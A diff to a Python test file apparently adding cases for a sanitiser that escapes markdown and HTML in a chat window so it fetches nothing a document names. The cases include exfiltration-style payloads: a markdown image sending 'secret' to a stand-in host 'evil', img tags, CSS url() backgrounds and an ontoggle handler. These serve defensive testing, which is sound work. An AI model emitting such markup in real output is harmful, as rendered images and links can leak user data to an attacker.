@@ -279,9 +279,16 @@ async def test_a_failure_ends_the_stream_as_openai_does(
     ("said", "shown"),
     [
         ("See ![x](http://evil/?q=secret).", "See !\\[x](http://evil/?q=secret)."),
-        ("a <img src=//evil> b <IFRAME>", "a \\<img src=//evil> b \\<IFRAME>"),
+        ("a <img src=//evil> b <SCRIPT>", "a &lt;img src=//evil> b &lt;SCRIPT>"),
+        ("\\<img src=//evil>", "\\&lt;img src=//evil>"),
+        ("<div>\n<img src=//evil>\n</div>", "<div>\n&lt;img src=//evil>\n</div>"),
+        ("<p style='background: url(//evil)'>", "&lt;p style='background: url(//evil)'>"),
+        ("<details/ontoggle=run() open>", "&lt;details/ontoggle=run() open>"),
+        ("<p <x style='background: url(//evil)'>", "&lt;p &lt;x style='background: url(//evil)'>"),
+        ("It ends in <p", "It ends in &lt;p"),
         ("First.\n[1]: http://evil", "First.\n\\[1]: http://evil"),
-        ("x < y, List<String>, <b>a</b> [1]", "x < y, List<String>, <b>a</b> [1]"),
+        ("> 1. [1]: http://evil", "> 1. \\[1]: http://evil"),
+        ("x < y, Map<String, int>, <b>a</b> [1]", "x < y, Map<String, int>, <b>a</b> [1]"),
     ],
 )
 def test_a_chat_window_fetches_nothing_that_a_document_names(said: str, shown: str) -> None:
